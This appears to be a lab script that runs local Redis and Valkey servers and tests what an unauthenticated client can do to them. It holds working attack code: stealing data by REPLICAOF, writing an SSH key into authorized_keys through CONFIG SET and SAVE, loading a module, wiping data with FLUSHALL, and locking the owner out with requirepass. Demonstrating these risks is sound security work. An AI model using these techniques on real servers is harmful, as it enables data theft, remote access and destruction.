# /// script
# requires-python = ">=3.12"
# dependencies = ["redis"]
#
# [tool.acked]
# starts = ["redis", "valkey"]
# timeout = 240
# ///
"""What whoever reaches the port of a Redis without password can do."""

from contextlib import suppress

import redis

from acked.lab import table
from acked.services import Redis, Valkey, wait_until

# A replica gets its copy without the usual wait for others.
AT_ONCE = "--repl-diskless-sync-delay 0"
SECRET = "ssh-ed25519 AAAA of-the-attacker"


def attempt(client: redis.Redis, *command: str) -> bool:
    try:
        client.execute_command(*command)
    except redis.ResponseError:
        return False
    return True


# --8<-- [start:attacks]
def steal(victim: Redis, own: redis.Redis) -> bool:
    """Make a server of one's own its replica, and read at leisure."""
    own.replicaof("127.0.0.1", victim.port)
    return wait_until(lambda: own.get("session:ann")) == "logged in"


def write_a_file(victim: Redis, client: redis.Redis) -> bool:
    """A snapshot with a line of one's own, where a program reads lines."""
    client.set("line", f"\n\n{SECRET}\n\n")
    folder = victim.home / "root-ssh"
    attempt(client, "CONFIG", "SET", "dir", str(folder))
    attempt(client, "CONFIG", "SET", "dbfilename", "authorized_keys")
    wait_until(lambda: attempt(client, "SAVE"))
    file = folder / "authorized_keys"
    return file.exists() and SECRET.encode() in file.read_bytes()


def lock_out(victim: Redis, client: redis.Redis) -> bool:
    client.config_set("requirepass", "mine")
    with suppress(redis.AuthenticationError):
        return victim.client().ping() is False
    return True


# --8<-- [end:attacks]


def attack(server_type, options: str) -> dict[str, bool]:
    with server_type(f"{options} {AT_ONCE}") as victim, Redis() as own:
        (victim.home / "root-ssh").mkdir()
        victim.client().set("session:ann", "logged in")
        client, stolen = victim.client(), own.client()
        ok = {"copy all data by `REPLICAOF`": steal(victim, stolen)}
        ok["write a file by `CONFIG SET dir`"] = write_a_file(victim, client)
        ok["load a module"] = module_is_asked_for(victim, client)
        ok["`FLUSHALL`"] = client.flushall() and client.dbsize() == 0
        ok["lock the owner out by `CONFIG SET`"] = lock_out(victim, client)
        return ok


def module_is_asked_for(victim: Redis, client: redis.Redis) -> bool:
    """Not refused as such: the server tried to open the file."""
    attempt(client, "MODULE", "LOAD", "/tmp/evil.so")
    return "evil.so failed to load" in victim.log()


OPEN = "--enable-protected-configs yes --enable-module-command yes"
columns = []
for options in "", OPEN:
    columns.append(attack(Redis, options))
    assert columns[-1] == attack(Valkey, options)

default, opened = columns
table(
    ["without a password", "default", "`enable-protected-configs yes` …"],
    *(
        [what, "yes" if default[what] else "no", "yes" if ok else "no"]
        for what, ok in opened.items()
    ),
)
